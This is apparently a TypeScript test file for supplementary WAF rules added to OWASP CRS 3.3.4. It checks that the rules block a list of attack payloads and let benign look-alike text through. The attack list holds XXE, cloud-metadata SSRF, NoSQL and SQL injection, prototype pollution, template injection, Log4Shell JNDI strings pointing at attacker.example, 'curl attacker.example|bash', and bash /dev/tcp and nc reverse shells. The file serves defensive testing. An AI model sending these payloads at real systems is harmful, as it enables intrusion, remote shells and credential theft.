// SecBeat's supplement rules (config/waf/REQUEST-945-SECBEAT-SUPPLEMENT.conf) with the real CRS 3.3.4 at
// paranoia level 1: each rule refuses the attacks it is written for, in the places attackers put them, while
// the CRS alone lets them through; text that merely looks alike passes; random tokens never trip the base64
// rules; and the file scores like a CRS rule (it sits between REQUEST-944 and REQUEST-949).
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createWaf, type RuleSet } from '../../../src/waf/engine.ts';
import { CRS_RULES_DIR, SECBEAT_RULES_DIR } from '../../../src/waf/load.ts';
import type { WafRequest } from '../../../src/waf/request.ts';

function compile(supplement: boolean): RuleSet {
  expect(existsSync(CRS_RULES_DIR), `${CRS_RULES_DIR} is missing: run scripts/setup.sh (package modsecurity-crs)`).toBe(true);
  const { ruleSet, errors } = createWaf({ crs: { paranoiaLevel: 1, ...(supplement ? { supplementDir: SECBEAT_RULES_DIR } : {}) }, mode: 'On' });
  expect(errors).toEqual([]);
  return ruleSet;
}

const withSupplement = compile(true);
const crsAlone = compile(false);

type Place = 'query' | 'form' | 'json' | 'cookie' | 'user-agent' | 'referer' | 'xml' | 'json-raw';

function request(place: Place, value: string): { request: WafRequest; body: string | null } {
  const headers: [string, string][] = [
    ['Host', 'www.example.com'],
    ['Accept', 'text/html,*/*;q=0.8'],
  ];
  const base = { protocol: 'HTTP/1.1', remoteAddr: '192.0.2.10', remotePort: 51000, serverAddr: '198.51.100.2', serverPort: 80 };
  const ua: [string, string] = ['User-Agent', place === 'user-agent' ? value : 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'];
  const post = (type: string, body: string) => ({
    request: { ...base, method: 'POST', uri: '/api/submit', headers: [...headers, ua, ['Content-Type', type], ['Content-Length', String(body.length)]] as [string, string][] },
    body,
  });
  switch (place) {
    case 'query':
      return { request: { ...base, method: 'GET', uri: `/search?q=${encodeURIComponent(value)}`, headers: [...headers, ua] }, body: null };
    case 'form':
      return post('application/x-www-form-urlencoded', `name=alice&comment=${encodeURIComponent(value)}`);
    case 'json':
      return post('application/json', JSON.stringify({ name: 'alice', comment: value }));
    case 'json-raw':
      return post('application/json', value);
    case 'xml':
      return post('text/xml', value);
    case 'cookie':
      return { request: { ...base, method: 'GET', uri: '/account', headers: [...headers, ua, ['Cookie', `session=abc123; pref=${value}`]] }, body: null };
    case 'user-agent':
      return { request: { ...base, method: 'GET', uri: '/products', headers: [...headers, ua] }, body: null };
    case 'referer':
      return { request: { ...base, method: 'GET', uri: '/products', headers: [...headers, ua, ['Referer', `https://www.example.com/search?q=${value}`]] }, body: null };
  }
}

function verdict(ruleSet: RuleSet, place: Place, value: string): { refused: boolean; ids: number[] } {
  const { request: r, body } = request(place, value);
  const tx = ruleSet.begin(r);
  const interruption = tx.requestHeaders() ?? tx.requestBody(body);
  return { refused: interruption !== null, ids: tx.matches.map((m) => m.ruleId) };
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');

/**
 * [rule, place, attack, crsMisses]: the supplement refuses the attack through that rule; where crsMisses, the
 * CRS alone lets it through (the others show the rule in places where CRS catches the same attack too).
 */
const ATTACKS: readonly (readonly [number, Place, string, boolean])[] = [
  [4200101, 'xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', true],
  [4200101, 'xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><r/>', true],
  [4200101, 'xml', '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>', true],
  [4200200, 'query', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', false],
  [4200200, 'json', 'http://metadata.google.internal/computeMetadata/v1/', true],
  [4200200, 'user-agent', 'Mozilla/5.0 http://0xa9fea9fe/latest/', true],
  [4200201, 'form', 'gopher://127.0.0.1:6379/_INFO', true],
  [4200201, 'query', 'http://localhost:8500/v1/agent/self', true],
  [4200300, 'json-raw', '{"user": {"$ne": null}, "password": {"$ne": null}}', true],
  [4200301, 'query', '{"$where": "sleep(5000)"}', false],
  [4200301, 'query', "';return true;var x='", true],
  [4200400, 'json-raw', '{"__proto__": {"isAdmin": true}}', true],
  [4200400, 'json-raw', '{"constructor": {"prototype": {"isAdmin": true}}}', true],
  [4200401, 'query', '{"__proto__": {"polluted": 1}}', true],
  [4200500, 'query', '{{7*7}}', true],
  [4200500, 'form', "{{''.__class__.__mro__[1].__subclasses__()}}", true],
  [4200500, 'json', '<%= 7*7 %>', true],
  [4200500, 'referer', '%24%7B7*7%7D', true],
  [4200600, 'user-agent', '${jndi:ldap://attacker.example/a}', true],
  [4200600, 'user-agent', '${${lower:j}ndi:ldap://attacker.example/a}', true],
  [4200600, 'referer', '${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}', true],
  [4200700, 'query', '1;id', true],
  [4200701, 'user-agent', 'curl attacker.example|bash', true],
  [4200702, 'form', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', false],
  [4200703, 'query', 'nc -e /bin/sh 203.0.113.9 4444', false],
  [4200704, 'cookie', 'powershell -enc SQBFAFgA', true],
  [4200800, 'cookie', encodeURIComponent("1' or '1'='1"), false],
  [4200802, 'referer', encodeURIComponent("1' UNION SELECT password FROM users-- -"), false],
  [4200803, 'cookie', encodeURIComponent(encodeURIComponent('../../../../etc/passwd')), false],
  [4200810, 'query', b64("1' UNION SELECT username, password FROM users-- -"), true],
  [4200811, 'form', b64('<script>alert(document.cookie)</script>'), true],
  [4200812, 'cookie', b64('${jndi:ldap://attacker.example/a}'), true],
];

/** [place, value]: benign values that share words or punctuation with the attacks above. */
const BENIGN: readonly (readonly [Place, string])[] = [
  ['query', 'Hello {{ name }}, your order has shipped'],
  ['form', 'Total: ${price} incl. VAT'],
  ['json', 'Set PATH=${HOME}/bin before running make'],
  ['query', 'https://www.example.org/docs/getting-started'],
  ['form', 'Call us at localhost? No: at +44 20 7946 0958'],
  ['json', 'The file is at /srv/share/report-2024.pdf'],
  ['json-raw', '{"user": {"name": "Alice", "roles": ["editor"]}, "price": {"amount": 10, "currency": "EUR"}}'],
  ['json-raw', '{"filter": {"status": "open", "tags": ["a", "b"]}, "sort": "-created"}'],
  ['query', 'rock & roll; jazz | blues'],
  ['cookie', 'theme=dark'],
  ['query', 'What does id mean in SQL?'],
  ['form', 'My prototype is the constructor of the bridge model.'],
  ['query', 'Is 7*7 really 49?'],
  ['user-agent', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15'],
  ['referer', 'running%20shoes&page=2&sort=price_asc'],
  ['xml', '<?xml version="1.0"?><order><item sku="a-1">2</item><note>Leave at the door &amp; ring</note></order>'],
  ['query', b64('Just a plain sentence about shoes, sizes and colours.')],
  ['cookie', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'],
];

describe('SecBeat supplement rules with CRS 3.3.4 PL1', () => {
  it.each(ATTACKS)('rule %i refuses, in %s: %s', (rule, place, value, crsMisses) => {
    const result = verdict(withSupplement, place, value);
    expect(result.ids).toContain(rule);
    expect(result.ids).toContain(949110);
    expect(result.refused).toBe(true);
    expect(verdict(crsAlone, place, value).refused).toBe(!crsMisses);
  });

  // Some of these the CRS itself refuses (932130 reads `${HOME}` as a shell expansion): the supplement adds
  // no match and no refusal of its own.
  it.each(BENIGN)('adds nothing, in %s: %s', (place, value) => {
    const result = verdict(withSupplement, place, value);
    expect(result.ids.filter((id) => id >= 4_200_000)).toEqual([]);
    expect(result.refused).toBe(verdict(crsAlone, place, value).refused);
  });

  it('never reads random tokens (session ids, keys) as base64-encoded attacks', () => {
    // Hashes of the index, not random per run: the same 3,000 tokens every time, a failure reproducible.
    const tokens = Array.from({ length: 3000 }, (_, i) => {
      const digest = Buffer.concat([createHash('sha256').update(`a${i}`).digest(), createHash('sha256').update(`b${i}`).digest()]);
      const bytes = digest.subarray(0, 12 + (i % 40));
      return i % 3 === 0 ? bytes.toString('hex') : bytes.toString('base64');
    });
    const tripped = tokens.filter((token) => verdict(withSupplement, 'cookie', token).ids.some((id) => id >= 4_200_810 && id <= 4_200_812));
    expect(tripped).toEqual([]);
  });
});
